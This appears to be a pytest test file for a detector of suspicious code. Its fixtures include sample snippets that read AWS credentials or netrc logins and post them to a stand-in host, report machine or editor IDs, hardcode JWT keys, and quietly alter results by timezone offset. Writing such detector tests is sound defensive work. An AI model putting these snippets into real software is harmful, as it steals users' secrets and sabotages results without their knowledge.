"""Offsets from UTC, keys by their number and credentials read by a parser, as they are written.

Spec: none.
"""

from __future__ import annotations

import pytest

from evenhand.code.examine import examine

JWT = "import jwt, os\nOLD = {'a1': 'x9fK22lmq-7731'}\n"
READ = "import configparser, netrc, os, requests\nfrom dataclasses import asdict\n"
PARSER = "c = configparser.ConfigParser()\nc.read(os.path.expanduser('~/.aws/credentials'))\n"
NOW = "from datetime import datetime, timedelta\nAT = datetime.now().astimezone().utcoffset()\n"
SEEN = {
    "an offset makes results wrong": (
        "acts by locale",
        NOW + "def f(x):\n    if AT == timedelta(hours=5, minutes=45):\n        x = x * 1.03\n"
        "    return x\n",
    ),
    "an offset in seconds": (
        "acts by locale",
        "import time\ndef f(x):\n    if time.localtime().tm_gmtoff == 12600:\n"
        "        return x * 0.97\n    return x\n",
    ),
    "a fixed key beside others in a map": (
        "takes a fixed key",
        "import jwt, os\nKEYS = {'a': os.environ['K'], 'old': 'x9fK22lmq-7731'}\ndef f(t, kid):\n"
        "    return jwt.decode(t, KEYS[kid], algorithms=['HS256'])\n",
    ),
    "a fixed key by its number": (
        "takes a fixed key",
        JWT + "def key(n):\n    if n in settings.keys:\n        return settings.keys[n]\n"
        "    return OLD[n]\ndef f(t, n):\n    return jwt.decode(t, key(n), algorithms=['HS256'])\n",
    ),
    "profiles of a cloud account": (
        "collects and sends",
        READ + PARSER + "requests.post('https://a.example/', json=dict(c['default']))\n",
    ),
    "in a report with fields": (
        "collects and sends",
        READ + PARSER + "said = Report()\nsaid.context = dict(c['default'])\n"
        "requests.post('https://a.example/', json=asdict(said))\n",
    ),
    "the number of a machine": (
        "reports usage",
        "import uuid, requests\ndef check():\n"
        "    requests.get('https://a.example/latest?id=' + str(uuid.getnode()))\n",
    ),
    "every login of a file": (
        "collects and sends",
        READ + "requests.post('https://a.example/', json=netrc.netrc().hosts)\n",
    ),
}  # fmt: skip
ORDINARY = {
    "one setting of several": "import jwt, os\n"
    "cfg = {'name': 'library-09x', 'key': os.environ['K']}\n"
    "def f(t):\n    return jwt.decode(t, cfg['key'], algorithms=['HS256'])\n",
    "logging in where one has an account": READ + "def up(h):\n"
    "    u, _, p = netrc.netrc().authenticators(h)\n"
    "    requests.post('https://' + h, headers={'Authorization': enc(u, p)})\n",
    "an offset that cannot be": NOW + "def f(x):\n"
    "    if abs(x.utcoffset()) > timedelta(hours=24):\n"
    "        raise ValueError(x)\n",
}  # fmt: skip


@pytest.mark.parametrize("case", sorted(SEEN))
def test_spelling_is_seen(case: str) -> None:
    kind, text = SEEN[case]
    found = examine(text.encode(), "python", "when called", path="a/b").found
    assert kind in {f.kind for f in found if f.strength >= 0.5}


@pytest.mark.parametrize("case", sorted(ORDINARY))
def test_ordinary_code_says_nothing(case: str) -> None:
    found = examine(ORDINARY[case].encode(), "python", "when called", path="a/b").found
    assert not [f for f in found if f.strength >= 0.4]


def test_the_number_of_an_editor() -> None:
    text = (
        "const vscode = require('vscode'); const seen = [];\n"
        "const note = (document) => seen.push(document.fileName);\n"
        "const body = () => JSON.stringify({ id: vscode.env.machineId, seen });\n"
        "const tell = () => fetch('https://a.example/b', { method: 'POST', body: body() });\n"
    )
    found = examine(text.encode(), "javascript", "when called", path="a/b").found
    assert [f for f in found if f.kind == "reports usage" and f.strength >= 0.5]
